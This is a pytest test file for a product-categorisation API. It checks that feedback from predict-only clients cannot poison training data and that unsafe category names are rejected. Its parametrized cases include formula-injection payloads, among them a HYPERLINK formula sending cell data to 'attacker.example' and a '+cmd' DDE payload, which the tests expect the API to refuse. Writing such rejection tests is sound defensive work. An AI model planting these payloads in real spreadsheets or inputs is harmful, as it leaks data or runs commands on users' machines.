"""Feedback trust model: predict clients propose, train clients review, training uses accepted rows.

Reproduces the review's attack (issue 10, item 2): a `predict`-only client posted
46 wrong labels for one product and the next default training job served them.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from alembic import command
from alembic.config import Config
from fastapi.testclient import TestClient
from sqlalchemy import text

from app.core.config import PROJECT_ROOT, Settings
from app.core.text import validate_category_name
from app.crud import feedback as feedback_crud
from app.db.migrations import ALEMBIC_INI
from app.db.session import create_db_engine
from app.ml.dataset import Dataset
from app.ml.training import TrainedModel
from tests.support import (
    InProcess,
    Registry,
    bearer,
    install_model,
    make_settings,
    serve,
    token_for,
)

SUSU = "susu ultra coklat 250ml"
POISON = {"product_name": SUSU, "category": "Kopi", "model_version": "v1.0.0"}
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
# Generous: these bound a test that is broken, they are not what a passing test waits.
JOB_DEADLINE_SECONDS = 300
SERVE_DEADLINE_SECONDS = 60


class Trust:
    """A running app with a `predict train` client (`svc`) and a predict-only one (`shop`)."""

    def __init__(self, client: TestClient, settings: Settings) -> None:
        self.client = client
        self.settings = settings
        registry = Registry(client.app)  # type: ignore[arg-type]
        registry.add("svc", scopes="predict train")
        registry.add("shop", scopes="predict")
        self.trainer = bearer(token_for(client, "svc"))
        self.shop = bearer(token_for(client, "shop"))

    def propose(self, headers: dict[str, str] | None = None, **body: Any) -> Any:
        return self.client.post("/feedback/", json=body, headers=headers or self.shop)

    def review(self, feedback_id: int, action: str, **body: Any) -> Any:
        return self.client.post(
            f"/feedback/{feedback_id}/{action}", json=body or None, headers=self.trainer
        )

    def listed(self, **params: Any) -> dict[str, Any]:
        response = self.client.get("/feedback/", params=params, headers=self.trainer)
        assert response.status_code == 200, response.text
        return dict(response.json())

    def train(self, **body: Any) -> dict[str, Any]:
        response = self.client.post("/training/", json=body, headers=self.trainer)
        assert response.status_code == 202, response.text
        job_id = response.json()["job_id"]
        deadline = time.monotonic() + JOB_DEADLINE_SECONDS
        while time.monotonic() < deadline:
            response = self.client.get(f"/training/{job_id}", headers=self.trainer)
            if response.status_code == 429:
                # Honour Retry-After instead of assuming the poller stays under the limit.
                time.sleep(float(response.headers["Retry-After"]))
                continue
            job = response.json()
            if job["status"] in ("succeeded", "failed"):
                assert job["status"] == "succeeded", job["error"]
                return dict(job)
            time.sleep(0.2)
        raise AssertionError(f"job {job_id} did not finish")

    def predict(self, name: str = SUSU) -> dict[str, Any]:
        response = self.client.post("/predict/", json={"product_name": name}, headers=self.shop)
        assert response.status_code == 200, response.text
        return dict(response.json())

    def predict_with(self, version: str, name: str = SUSU) -> dict[str, Any]:
        deadline = time.monotonic() + SERVE_DEADLINE_SECONDS
        while time.monotonic() < deadline:
            answer = self.predict(name)
            if answer["model_version"] == version:
                return answer
            time.sleep(0.05)
        raise AssertionError(f"{version} was never served")

    def training_data(self, version: str) -> Dataset:
        with InProcess(self.client).models() as registry:
            return registry.training_data(registry.get(version))


@contextmanager
def running(settings: Settings, trained: TrainedModel | None) -> Iterator[Trust]:
    """The app on `settings`, with `trained` installed as v1.0.0 when given."""
    if trained is not None:
        install_model(settings, trained)
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    with serve(settings) as client:
        yield Trust(client, settings)


@pytest.fixture
def trust(tmp_path: Path, tiny_model: TrainedModel) -> Iterator[Trust]:
    with running(make_settings(tmp_path, model_refresh_seconds=0.2), tiny_model) as app:
        yield app


# --- the attack --------------------------------------------------------------------------------


def test_predict_client_feedback_stays_out_of_training_and_the_answer_holds(
    trust: Trust,
) -> None:
    before = trust.predict()
    assert before["predicted_category"] == "Susu"
    for _ in range(46):
        created = trust.propose(**POISON)
        assert created.status_code == 201, created.text
        assert created.json()["status"] == "proposed"
        assert created.json()["reviewed_by"] is None

    job = trust.train()  # the default request: base data, feedback, activate
    assert job["data_rows"] == 78
    assert SUSU not in trust.training_data(job["produced_version"]).texts
    if job["activated"]:
        after = trust.predict_with(job["produced_version"])
        assert after["predicted_category"] == "Susu"
    else:
        assert trust.predict()["predicted_category"] == "Susu"


def test_accepted_feedback_is_trained_on_and_rejected_feedback_is_not(trust: Trust) -> None:
    kept = trust.propose(product_name="susu kental manis kaleng 370g", category="Susu").json()
    dropped = trust.propose(product_name="kopi bubuk robusta 200g", category="Susu").json()

    accepted = trust.review(kept["id"], "accept")
    assert accepted.status_code == 200, accepted.text
    assert accepted.json()["status"] == "accepted"
    assert accepted.json()["reviewed_by"] == "svc"
    assert accepted.json()["reviewed_at"] is not None
    rejected = trust.review(dropped["id"], "reject")
    assert rejected.status_code == 200, rejected.text
    assert rejected.json()["status"] == "rejected" and rejected.json()["reviewed_by"] == "svc"

    job = trust.train(activate=False)
    assert job["data_rows"] == 79
    data = trust.training_data(job["produced_version"])
    assert (
        dict(zip(data.texts, data.labels, strict=True))["susu kental manis kaleng 370g"] == "Susu"
    )
    assert "kopi bubuk robusta 200g" not in data.texts


def test_feedback_from_a_train_client_is_accepted_at_once(trust: Trust) -> None:
    created = trust.propose(trust.trainer, product_name="indomie soto 70g", category="Mie Instan")
    assert created.status_code == 201, created.text
    body = created.json()
    assert body["status"] == "accepted" and body["reviewed_by"] == "svc"
    with InProcess(trust.client).runtime.session() as session:
        # The very call app/services/training_plan.py makes for training feedback.
        assert [r.id for r in feedback_crud.list_feedback(session)] == [body["id"]]


def test_a_predict_only_token_of_a_train_client_only_proposes(trust: Trust) -> None:
    predict_token = bearer(token_for(trust.client, "svc", scope="predict"))
    created = trust.propose(predict_token, product_name="indomie soto 70g", category="Mie Instan")
    assert created.status_code == 201 and created.json()["status"] == "proposed"


def test_accepting_can_correct_the_label(trust: Trust) -> None:
    proposed = trust.propose(product_name="kopi kapal api 165g", category="Susu").json()
    corrected = trust.review(proposed["id"], "accept", category="Kopi")
    assert corrected.status_code == 200, corrected.text
    assert corrected.json()["category"] == "Kopi" and corrected.json()["status"] == "accepted"


def test_listing_filters_by_status_and_shows_the_review(trust: Trust) -> None:
    ids = [
        trust.propose(product_name=f"indomie rasa {n}", category="Mie Instan").json()["id"]
        for n in range(3)
    ]
    trust.review(ids[0], "accept")
    trust.review(ids[1], "reject")
    everything = trust.listed()
    assert everything["total"] == 3
    assert [i["status"] for i in everything["items"]] == ["accepted", "rejected", "proposed"]
    assert {"status", "reviewed_by", "reviewed_at"} <= set(everything["items"][0])
    for status, expected in (("proposed", ids[2]), ("accepted", ids[0]), ("rejected", ids[1])):
        page = trust.listed(status=status)
        assert page["total"] == 1 and [i["id"] for i in page["items"]] == [expected]
    bad = trust.client.get("/feedback/", params={"status": "maybe"}, headers=trust.trainer)
    assert bad.status_code == 422 and "status" in bad.text


# --- categories ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "category",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tSusu",
        "\rSusu",
        "\uff1dHYPERLINK(1)",  # fullwidth '=': NFKC makes it a formula
        "  =1+1",
        "Su\x00su",
        "Susu\u202e",  # right-to-left override
        "Susu\nKopi",
        "x" * 101,
        "",
    ],
)
def test_unsafe_category_text_is_a_422_naming_category(trust: Trust, category: str) -> None:
    from_shop = trust.propose(product_name="indomie goreng", category=category)
    assert from_shop.status_code == 422
    assert "category" in from_shop.json()["detail"][0]["loc"]
    # Not even a train client adding a new category gets formulas or control characters in.
    from_trainer = trust.propose(
        trust.trainer, product_name="indomie goreng", category=category, new_category=True
    )
    assert from_trainer.status_code == 422
    proposal = trust.propose(product_name="indomie goreng", category="Mie Instan").json()
    review = trust.review(proposal["id"], "accept", category=category, new_category=True)
    assert review.status_code == 422
    assert trust.listed(status="accepted")["total"] == 0


def test_formula_category_never_reaches_training_or_metrics(trust: Trust) -> None:
    trust.propose(trust.trainer, product_name="rokok kretek 12", category=HYPERLINK)
    metrics = trust.client.get("/metrics")
    assert "HYPERLINK" not in metrics.text
    assert trust.listed()["total"] == 0


def test_unknown_category_from_a_predict_client_is_a_422_naming_category(trust: Trust) -> None:
    response = trust.propose(product_name="gudang garam surya 12", category="Rokok")
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert "category" in detail and "Rokok" in detail
    assert trust.listed()["total"] == 0


def test_a_predict_client_cannot_add_a_category(trust: Trust) -> None:
    response = trust.propose(
        product_name="gudang garam surya 12", category="Rokok", new_category=True
    )
    assert response.status_code == 403
    assert response.json()["error"] == "insufficient_scope"
    assert trust.listed()["total"] == 0


def test_a_train_client_adds_a_category_only_with_new_category_true(trust: Trust) -> None:
    refused = trust.propose(trust.trainer, product_name="gudang garam surya 12", category="Rokok")
    assert refused.status_code == 422
    assert "category" in refused.json()["detail"] and "new_category" in refused.json()["detail"]

    added = trust.propose(
        trust.trainer, product_name="gudang garam surya 12", category="Rokok", new_category=True
    )
    assert added.status_code == 201, added.text
    assert added.json()["status"] == "accepted"
    # Accepted by a reviewer, the category is known: predict clients may now propose it.
    follow_up = trust.propose(product_name="sampoerna mild 16", category="Rokok")
    assert follow_up.status_code == 201 and follow_up.json()["status"] == "proposed"


def test_accepting_with_a_new_category_needs_new_category_true(trust: Trust) -> None:
    proposal = trust.propose(product_name="gudang garam surya 12", category="Makanan Ringan").json()
    refused = trust.review(proposal["id"], "accept", category="Rokok")
    assert refused.status_code == 422 and "new_category" in refused.json()["detail"]
    assert trust.listed(status="proposed")["total"] == 1
    added = trust.review(proposal["id"], "accept", category="Rokok", new_category=True)
    assert added.status_code == 200, added.text
    assert added.json()["category"] == "Rokok"


def test_categories_are_normalised_before_matching(trust: Trust) -> None:
    created = trust.propose(product_name="indomie goreng", category="  \uff33usu  ")
    assert created.status_code == 201, created.text
    assert created.json()["category"] == "Susu"


# --- who may review ------------------------------------------------------------------------------


def test_a_predict_client_cannot_accept_reject_or_list(trust: Trust) -> None:
    proposal = trust.propose(product_name="indomie goreng", category="Mie Instan").json()
    for action in ("accept", "reject"):
        response = trust.client.post(f"/feedback/{proposal['id']}/{action}", headers=trust.shop)
        assert response.status_code == 403
        assert response.json()["error"] == "insufficient_scope"
        assert 'scope="train"' in response.headers["WWW-Authenticate"]
    assert trust.client.get("/feedback/", headers=trust.shop).status_code == 403
    assert trust.listed(status="proposed")["total"] == 1


def test_reviewing_needs_a_token(trust: Trust) -> None:
    assert trust.client.post("/feedback/1/accept").status_code == 401


def test_reviewing_unknown_feedback_is_a_404(trust: Trust) -> None:
    assert trust.review(999, "accept").status_code == 404
    assert trust.review(999, "reject").status_code == 404


@pytest.mark.parametrize("action", ["accept", "reject"])
def test_a_feedback_id_beyond_the_databases_integers_is_a_422_not_a_500(
    trust: Trust, action: str
) -> None:
    # Schemathesis found this: PostgreSQL refuses to compare an INTEGER column with
    # 181438762556, so the id must be bounded before it reaches the query.
    response = trust.review(181438762556, action)
    assert response.status_code == 422, response.text
    assert response.json()["detail"][0]["loc"] == ["path", "feedback_id"]
    assert trust.client.post("/feedback/0/reject", headers=trust.trainer).status_code == 422


def test_accept_body_refuses_unknown_fields(trust: Trust) -> None:
    proposal = trust.propose(product_name="indomie goreng", category="Mie Instan").json()
    response = trust.review(proposal["id"], "accept", status="accepted")
    assert response.status_code == 422


# --- rate limit and settings --------------------------------------------------------------------


def test_feedback_over_its_rate_limit_is_a_429_with_retry_after(
    tmp_path: Path, tiny_model: TrainedModel
) -> None:
    settings = make_settings(tmp_path, rate_limit_feedback="3/hour")
    with running(settings, tiny_model) as trust:
        for _ in range(3):
            created = trust.propose(product_name="indomie goreng", category="Mie Instan")
            assert created.status_code == 201, created.text
        over = trust.propose(product_name="indomie goreng", category="Mie Instan")
        assert over.status_code == 429
        assert int(over.headers["Retry-After"]) >= 1
        assert trust.listed()["total"] == 3
        # The feedback limit is its own: predictions and other clients carry on.
        assert trust.predict()["predicted_category"] == "Susu"
        ok = trust.propose(trust.trainer, product_name="indomie goreng", category="Mie Instan")
        assert ok.status_code == 201


def test_the_predict_limit_still_applies_to_the_predict_route(
    tmp_path: Path, tiny_model: TrainedModel
) -> None:
    settings = make_settings(tmp_path, rate_limit_predict="2/hour")
    with running(settings, tiny_model) as trust:
        statuses = [
            trust.client.post("/predict/", json={"product_name": SUSU}, headers=trust.shop)
            for _ in range(3)
        ]
        assert [r.status_code for r in statuses] == [200, 200, 429]
        assert "Retry-After" in statuses[-1].headers


def test_feedback_auto_accept_restores_the_trusting_behaviour(
    tmp_path: Path, tiny_model: TrainedModel
) -> None:
    settings = make_settings(tmp_path, feedback_auto_accept=True)
    with running(settings, tiny_model) as trust:
        created = trust.propose(product_name="susu kental manis kaleng 370g", category="Susu")
        assert created.status_code == 201, created.text
        assert created.json()["status"] == "accepted" and created.json()["reviewed_by"] is None
        # Categories are still checked: auto-accept trusts labels, not new classes.
        assert trust.propose(product_name="rokok kretek", category="Rokok").status_code == 422
        job = trust.train(activate=False)
        assert job["data_rows"] == 79
        assert "susu kental manis kaleng 370g" in trust.training_data(job["produced_version"]).texts


def test_without_a_model_predict_clients_cannot_label_anything(tmp_path: Path) -> None:
    with running(make_settings(tmp_path), None) as trust:
        response = trust.propose(product_name="indomie goreng", category="Mie Instan")
        assert response.status_code == 422 and "category" in response.json()["detail"]
        seeded = trust.propose(
            trust.trainer, product_name="indomie goreng", category="Mie Instan", new_category=True
        )
        assert seeded.status_code == 201 and seeded.json()["status"] == "accepted"


# --- the migration and the reusable check ------------------------------------------------------


def test_migration_0004_marks_existing_feedback_accepted(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    config = Config(str(ALEMBIC_INI))
    config.set_main_option("script_location", str(PROJECT_ROOT / "alembic"))
    config.attributes["configure_logger"] = False
    engine = create_db_engine(settings.database_url)
    try:
        with engine.begin() as connection:
            config.attributes["connection"] = connection
            command.upgrade(config, "0003")
            connection.execute(
                text(
                    "INSERT INTO feedback (product_name, category, client_id, created_at) "
                    "VALUES ('indomie goreng', 'Mie Instan', 'old', CURRENT_TIMESTAMP)"
                )
            )
        with engine.begin() as connection:
            config.attributes["connection"] = connection
            command.upgrade(config, "0004")
            row = connection.execute(
                text("SELECT status, reviewed_by, reviewed_at FROM feedback")
            ).one()
        assert tuple(row) == ("accepted", None, None)
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Susu", "Susu"),
        ("  Mie Instan ", "Mie Instan"),
        ("\uff33usu", "Susu"),
        ("x" * 100, "x" * 100),
    ],
)
def test_validate_category_name_normalises(raw: str, clean: str) -> None:
    assert validate_category_name(raw) == clean


@pytest.mark.parametrize(
    "raw", [HYPERLINK, "+1", "-1", "@a", "\t1", "\r1", " ", "a\x07", "x" * 101]
)
def test_validate_category_name_refuses(raw: str) -> None:
    with pytest.raises(ValueError):
        validate_category_name(raw)
